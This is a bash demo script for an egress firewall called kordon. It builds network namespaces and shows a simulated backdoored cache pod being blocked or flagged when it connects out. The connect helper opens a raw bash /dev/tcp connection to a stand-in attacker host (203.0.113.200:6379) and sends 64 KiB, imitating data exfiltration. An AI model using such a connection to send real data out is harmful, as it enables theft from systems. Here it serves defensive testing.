#!/usr/bin/env bash
# What `make demo-egress` runs (as root): the backdoored-Redis story on a
# real kernel. It builds a small topology of network namespaces (a node
# running kordon dev --egress-firewall, three pods on veth pairs, an
# "outside" namespace with servers on TEST-NET addresses), then:
#   - the frontend resolves its allowed API and connects: allowed;
#   - the Enforce-policed cache's backdoor dials 203.0.113.200:6379 by IP:
#     refused at once (TCP RST), logged as a blocked flow, alerted;
#   - the same image with no policy connects and ships 64 KiB: let through,
#     the flow log shows the bytes, and a direct-egress alert is raised;
#   - the cache asks another resolver (203.0.113.53) directly: kordon
#     answers instead (DNS is intercepted), and raises resolver-bypass.
# Nothing leaves the namespaces; every namespace, table and process it
# made is removed on exit, failed or not.
set -euo pipefail
cd "$(dirname "$0")/.."

KORDON=${KORDON:-bin/kordon}
CONFIG=${CONFIG:-examples/egress}
ZONES=${ZONES:-examples/upstream/zones.yaml}
WAIT_STEPS=${WAIT_STEPS:-200}

if [ "$(id -u)" != 0 ]; then
	echo "demo-egress: needs root (it creates network namespaces and programs nftables inside them): sudo make demo-egress" >&2
	exit 1
fi
if [ ! -x "$KORDON" ]; then
	echo "demo-egress: $KORDON not found: run make demo-egress (it builds first)" >&2
	exit 1
fi
command -v dig >/dev/null && command -v ip >/dev/null || ./hack/install-deps.sh

work=$(mktemp -d "${TMPDIR:-/tmp}/kordon-demo-egress.XXXXXX")
P="kde$$"
NODE=$P-node OUT=$P-out
PODS=("$P-frontend" "$P-cache" "$P-legacy")
namespaces=("$NODE" "$OUT" "${PODS[@]}")
pids=()
cleanup() {
	local rc=$?
	stop_pids
	fail_log "$rc" "$work/dev.err"
	for ns in "${namespaces[@]}"; do
		# Anything still running in a namespace goes with it.
		for p in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$p" 2>/dev/null || true; done
		ip netns del "$ns" 2>/dev/null || true
	done
	rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# shellcheck source=hack/lib.sh
. hack/lib.sh
in_ns() { local ns=$1; shift; ip netns exec "$ns" "$@"; }

step "Building the topology: node, outside and three pods in network namespaces"
for ns in "${namespaces[@]}"; do
	ip netns add "$ns"
	in_ns "$ns" sysctl -qw net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.accept_dad=0
	in_ns "$ns" ip link set lo up
done
in_ns "$NODE" sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
in_ns "$NODE" ip addr add 10.96.0.53/32 dev lo
in_ns "$NODE" ip link add ext0 type veth peer name eth0 netns "$OUT"
in_ns "$NODE" ip addr add 192.0.2.1/24 dev ext0
in_ns "$NODE" ip link set ext0 up
in_ns "$OUT" ip addr add 192.0.2.2/24 dev eth0
in_ns "$OUT" ip link set eth0 up
in_ns "$NODE" ip route add 198.51.100.0/24 via 192.0.2.2
in_ns "$NODE" ip route add 203.0.113.0/24 via 192.0.2.2
in_ns "$OUT" ip route add 10.244.0.0/16 via 192.0.2.1
for a in 198.51.100.10 198.51.100.130 203.0.113.200 203.0.113.53; do in_ns "$OUT" ip addr add "$a/32" dev lo; done
for i in 0 1 2; do
	pod=${PODS[$i]}
	in_ns "$NODE" ip link add "vp$i" type veth peer name eth0 netns "$pod"
	in_ns "$NODE" ip addr add "10.244.$i.1/24" dev "vp$i"
	in_ns "$NODE" ip link set "vp$i" up
	in_ns "$pod" ip addr add "10.244.$i.2/24" dev eth0
	in_ns "$pod" ip link set eth0 up
	in_ns "$pod" ip route add default via "10.244.$i.1"
done
note "  node $NODE (10.96.0.53 for DNS), outside $OUT (198.51.100.10 api.shop.example, 203.0.113.200 the attacker's host)"
note "  pods: frontend 10.244.0.2, cache 10.244.1.2 (policy shop/cache-egress), legacy-cache 10.244.2.2 (no policy)"

step "Outside: an API on 198.51.100.10:443, a partner on 198.51.100.130:443 and the attacker's host on 203.0.113.200:6379"
ip netns exec "$OUT" "$KORDON" dev sink --listen 198.51.100.10:443 --listen 198.51.100.130:443 --listen 203.0.113.200:6379 >"$work/sink.out" 2>&1 &
pids+=($!)
wait_for grep -q 203.0.113.200 "$work/sink.out"

step "Starting kordon dev --egress-firewall in the node namespace"
ip netns exec "$NODE" "$KORDON" dev --config "$CONFIG" --upstream-zones "$ZONES" \
	--egress-firewall --internal-cidr 10.244.0.0/16 --internal-cidr 10.96.0.0/12 \
	--dns-listen 10.96.0.53:53 --http-listen 127.0.0.1:0 --xds-listen 127.0.0.1:0 \
	--state-dir "$work/state" --addr-file "$work/dev.addr" \
	--query-log "$work/queries.log" --flow-log "$work/flows.log" \
	>"$work/dev.out" 2>"$work/dev.err" &
pids+=($!)
wait_for test -s "$work/dev.addr"
HTTP=$(sed -n 's/^http=//p' "$work/dev.addr")
wait_for grep -q '^ready' "$work/dev.out"
grep -E '^  (egress|dns) ' "$work/dev.out" | sed 's/^/  /'

# connect POD HOST PORT BYTES: a TCP connection from the pod that sends BYTES
# and closes, as a backdoor would (bash's /dev/tcp, no tools needed).
connect() {
	local pod=$1 host=$2 port=$3 bytes=$4 start end
	start=$(date +%s%N)
	if in_ns "$pod" timeout 5 bash -c "exec 3<>/dev/tcp/$host/$port && head -c $bytes /dev/zero >&3 && exec 3>&-" 2>"$work/connect.err"; then
		end=$(date +%s%N)
		printf '    connected, sent %d bytes (%d ms)\n' "$bytes" $(((end - start) / 1000000))
	else
		end=$(date +%s%N)
		printf '    refused: %s (after %d ms)\n' "$(sed -e 's/.*: //' "$work/connect.err" | head -n1)" $(((end - start) / 1000000))
	fi
}
say() { printf '%s$ %s%s   %s# %s%s\n' "$bold" "$1" "$off" "$dim" "$2" "$off"; }

step "Allowed: the frontend resolves its API, then connects to the address in its own answer"
say "dig @10.96.0.53 api.shop.example" "as frontend"
in_ns "${PODS[0]}" dig @10.96.0.53 +time=2 +tries=1 +short api.shop.example | sed 's/^/    /'
say "connect 198.51.100.10:443" "as frontend"
connect "${PODS[0]}" 198.51.100.10 443 1024
say "connect 198.51.100.10:22" "as frontend: the address is allowed, port 22 is not (spec.ports: [443])"
connect "${PODS[0]}" 198.51.100.10 22 16

step "The backdoor, policed: the cache dials its author's host by IP (no DNS answer ever gave it)"
say "connect 203.0.113.200:6379" "as cache (shop/cache-egress, Enforce)"
connect "${PODS[1]}" 203.0.113.200 6379 65536
say "connect 198.51.100.130:443" "as cache: in its allowCIDRs, reachable without DNS"
connect "${PODS[1]}" 198.51.100.130 443 128

step "The same image without a policy: let through, but seen"
say "connect 203.0.113.200:6379" "as legacy-cache (no EgressPolicy)"
connect "${PODS[2]}" 203.0.113.200 6379 65536
wait_for grep -q "65536 bytes from 10.244.2.2" "$work/sink.out"
grep "from 10.244.2.2" "$work/sink.out" | sed 's/^/    outside: /'

step "Another resolver: the cache asks 203.0.113.53 directly; kordon answers (every pod's DNS is intercepted)"
say "dig @203.0.113.53 telemetry-cdn.example" "as cache"
in_ns "${PODS[1]}" dig @203.0.113.53 +time=2 +tries=1 telemetry-cdn.example |
	grep -E 'status:|EDE:|SERVER:' | sed -e 's/^;; ->>HEADER<<- opcode: QUERY, \(status: [A-Z]*\),.*/\1/' -e 's/^/    /'

step "The flow log: one JSON object per egress connection (--flow-log)"
wait_for grep -q '"verdict":"blocked".*6379\|6379.*"verdict":"blocked"' "$work/flows.log"
wait_for grep -q '"dst":"203.0.113.200".*"final":true.*\|"final":true.*"dst":"203.0.113.200"' "$work/flows.log"
note "  the blocked backdoor (cache) and the one let through (legacy-cache, with its bytes):"
grep '"dst":"203.0.113.200"' "$work/flows.log" | grep -E '"verdict":"blocked"' | head -n1 | sed 's/^/  /'
grep '"dst":"203.0.113.200"' "$work/flows.log" | grep '"10.244.2.2"' | grep '"final":true' | head -n1 | sed 's/^/  /'

step "The alert feed: kordon alerts"
alerts=""
for _ in $(seq "$WAIT_STEPS"); do
	alerts=$(in_ns "$NODE" "$KORDON" alerts --server "http://$HTTP" 2>/dev/null || true)
	if [ "$(printf '%s\n' "$alerts" | grep -c 'direct-egress')" -ge 2 ] && printf '%s\n' "$alerts" | grep -q resolver-bypass; then break; fi
	sleep 0.05
done
printf '%s\n' "$alerts" | sed 's/^/  /'
printf '%s\n' "$alerts" | grep -q direct-egress || { echo "demo-egress: no direct-egress alert" >&2; exit 1; }
printf '%s\n' "$alerts" | grep -q resolver-bypass || { echo "demo-egress: no resolver-bypass alert" >&2; exit 1; }

step "What to look at next"
cat <<EOF
  egress/README.md                  # the rules kordon programs, the flow-log schema, metrics
  ip netns exec NODE nft list table inet kordon   # while kordon dev --egress-firewall runs (nftables package)
  $CONFIG/egress.yaml       # allow, allowCIDRs, ports, mode: Audit
EOF
echo
echo "demo-egress done: the namespaces, the nftables table and every process it started are gone."
